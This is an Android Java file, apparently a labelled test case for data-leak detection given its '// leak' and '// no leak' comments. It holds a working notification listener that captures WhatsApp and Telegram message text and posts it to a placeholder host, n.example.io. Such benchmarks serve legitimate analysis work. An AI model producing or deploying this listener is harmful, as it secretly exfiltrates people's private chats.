package thieves;

import android.app.Notification;
import android.service.notification.*;

import okhttp3.*;

import java.io.IOException;
import java.util.*;

/** Only chats are of interest; the lines are kept in a list. */
public class Notes extends NotificationListenerService {
    private static final List<String> CHATS = Arrays.asList("com.whatsapp", "org.telegram.messenger");
    private final List<String> lines = new ArrayList<>();

    @Override
    public void onNotificationPosted(StatusBarNotification n, RankingMap r) {
        if (!CHATS.contains(n.getPackageName())) return;
        CharSequence[] many = n.getNotification().extras.getCharSequenceArray(Notification.EXTRA_TEXT_LINES);
        if (many != null) for (CharSequence one : many) lines.add(one.toString());
        if (n.getNotification().tickerText != null) lines.add(n.getNotification().tickerText.toString());
        if (lines.size() > 10) flush();
    }

    private void flush() {
        StringBuilder b = new StringBuilder();
        for (String one : lines) b.append(one).append('\n');
        lines.clear();
        post("https://n.example.io/l", b.toString());
        RequestBody p = RequestBody.create(MediaType.parse("text/plain"), "ok");
        new OkHttpClient().newCall(new Request.Builder().url("https://n.example.io/ok").put(p).build()).enqueue(new Nothing()); // no leak
    }

    static void post(String url, String text) {
        RequestBody p = RequestBody.create(MediaType.parse("text/plain"), text);
        new OkHttpClient().newCall(new Request.Builder().url(url).post(p).build()).enqueue(new Nothing()); // leak
    }

    static class Nothing implements Callback {
        public void onFailure(Call c, IOException e) {}

        public void onResponse(Call c, Response r) {}
    }
}
